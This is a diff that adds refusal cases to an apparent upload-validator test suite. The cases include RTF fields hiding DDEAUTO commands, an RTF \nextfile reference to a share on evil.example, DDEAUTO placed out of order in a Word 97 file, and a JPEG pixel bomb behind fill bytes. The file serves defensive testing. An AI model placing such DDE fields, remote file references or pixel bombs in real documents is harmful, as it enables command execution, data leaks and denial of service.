@@ -109,6 +109,21 @@ export const otherFiles = [
     'A code has nothing in it but its letters',
     () => rtf('{\\field{\\*\\fldinst {\\*\\generator PAGE }DDEAUTO cmd}{\\fldrslt x}}'),
   ),
+  refused(
+    'dde-behind-number.rtf',
+    'The same behind the number of a letter, for which readers pass over the harmless code',
+    'A code has no numbers of letters',
+    () => rtf('{\\field{\\*\\fldinst\\uc5\\u32 PAGE DDEAUTO cmd}{\\fldrslt x}}'),
+  ),
+  refused(
+    'dde-told-twice.rtf',
+    'The same before a second, harmless code',
+    'A code is told once',
+    () => rtf('{\\field{\\*\\fldinst DDEAUTO cmd \\fldinst PAGE}{\\fldrslt x}}'),
+  ),
+  refused('next-file.rtf', 'A further text on a server', 'All content has to be inside', () =>
+    rtf('{\\nextfile \\\\\\\\evil.example\\\\a.rtf}'),
+  ),
   refused('remote-template.rtf', 'A template on a server', 'Templates are refused', () =>
     rtf('{\\*\\template https://evil.example/a.dotm}'),
   ),
@@ -144,6 +159,12 @@ export const otherFiles = [
       }),
   ),
   refused(
+    'dde-in-pieces.doc',
+    'The same, its code before the mark of the field',
+    'The word is looked for everywhere',
+    () => compound({ ...word97, WordDocument: 'DDEAUTO cmd \x15 \x13'.padEnd(5000, ' ') }),
+  ),
+  refused(
     'remote-template.doc',
     'A document of before 2007 with a template on a server',
     'Such templates are refused',
@@ -164,6 +185,17 @@ export const otherFiles = [
     'A photo that claims 65,500 × 65,500 pixels',
     'More than 100 million pixels',
     () => jpegOf(65_500, 65_500),
+  ),
+  refused(
+    'huge-behind-fill.jpg',
+    'The same behind a byte that fills up',
+    'More than 100 million pixels',
+    () =>
+      Buffer.concat([
+        Buffer.from('ffd8ffffc0001108ffffffff03012200021101031101', 'hex'),
+        Buffer.alloc(0xc000 - 18),
+        Buffer.from('ffd9', 'hex'),
+      ]),
   ),
   refused('chain.jpg', 'A chain of 100,000 tiny photos', 'Eight pictures at most', () =>
     Buffer.concat(Array<Buffer>(100_000).fill(jpeg)),
